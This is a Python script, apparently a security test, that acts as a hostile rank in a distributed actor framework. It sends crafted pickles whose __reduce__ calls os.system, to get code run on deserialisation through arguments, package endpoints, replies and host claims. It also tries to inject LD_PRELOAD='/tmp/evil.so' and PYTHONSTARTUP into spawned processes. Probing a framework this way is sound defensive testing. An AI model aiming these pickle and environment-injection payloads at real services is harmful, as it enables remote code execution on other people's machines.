"""A rank of a host that means harm: it speaks at its own post's door (door_client.py), and sends pickles that make whoever reads them
write a file, in all ways that there are: as arguments, to what belongs to the package, as an answer, and with a claim.

usage: pickler.py FILE
"""

import os
import pickle
import struct
import sys

import door_client
from door_client import CALL, DELIVER, HELLO, REPLY, WELCOME, Door

FILE = sys.argv[1]
QUIET, TO_PORT = 1, 4


class Trap:
    def __reduce__(self):
        return os.system, ("echo ran >> " + FILE,)


def of_rank(serves):
    """A connection of this rank, by the newest version."""
    door = Door.__new__(Door)
    door.owner = 5
    door.socket = door_client.socket.socket(door_client.socket.AF_UNIX, door_client.socket.SOCK_SEQPACKET)
    door.socket.connect(os.environ["MONARCH_POST"])
    actors = [["trap", "Trap", [["spring", "*", True]]]] if serves else []
    door.say(HELLO, [4, os.environ["MONARCH_MESH"], int(os.environ["MONARCH_RANK"]), int(os.environ["MONARCH_GENERATION"]), serves, actors,
                     False, 0 if serves else door.owner])
    door.hear(WELCOME)
    return door


def call(door, number, actor, endpoint, body):
    """How it ended, and why."""
    door.say(CALL, [number, "victim", [[0, 1, 1]], [actor, endpoint, "*"], False, None, [len(body), 1, body], ""])
    kind, fields = door.hear(door_client.ANSWER, door_client.ANSWERS)
    outcome = fields[2] if kind == door_client.ANSWER else fields[0][0][2]
    return door_client.KINDS[outcome[0]], outcome[1], outcome[2].splitlines()[-1] if outcome[2] else ""


def pickled_call(flags):
    said = bytes([0x91, flags])
    return b"\xc1\x02" + struct.pack("<H", len(said)) + said + pickle.dumps(((Trap(),), {}), 5)


def main():
    server, door = of_rank(True), of_rank(False)
    number = 0
    for actor, endpoint, flags in (("victim", "take", 0), ("victim", "take", QUIET), ("victim", "take", TO_PORT), ("monarch", "make", 0),
                                   ("monarch", "setup", 0), ("monarch", "port", TO_PORT)):
        number += 1
        print(actor, endpoint, flags, *call(door, number, actor, endpoint, pickled_call(flags)), flush=True)
    print("end", *call(door, 90, "monarch", "end", b"\x90"), flush=True)
    # The victim asks, and is answered with one.
    door.say(CALL, [91, "victim", [[0, 1, 1]], ["victim", "ask", "*"], False, None, [1, 1, b"\x90"], ""])
    delivery = server.hear(DELIVER)[0]
    body = b"\xc1\x00" + pickle.dumps(Trap(), 5)
    server.say(REPLY, [delivery, [0, "", "", "", 0, [len(body), 1, body], b""], False])
    kind, fields = door.hear(door_client.ANSWER, door_client.ANSWERS)
    outcome = fields[2] if kind == door_client.ANSWER else fields[0][0][2]
    print("ask", door_client.unpack(outcome[5][2])[0], flush=True)
    door.hear(door_client.OVER) if kind == door_client.ANSWER else None
    for env in ({"LD_PRELOAD": "/tmp/evil.so"}, {"PYTHONSTARTUP": FILE}, {"MONARCH_TRUST": "job"}):
        number += 1
        print("claim", door.wish(number, hosts=["h1"], env=env), flush=True)
    print("claim", door.wish(number + 1, hosts=["h1"]), flush=True)
    print("done", flush=True)


main()
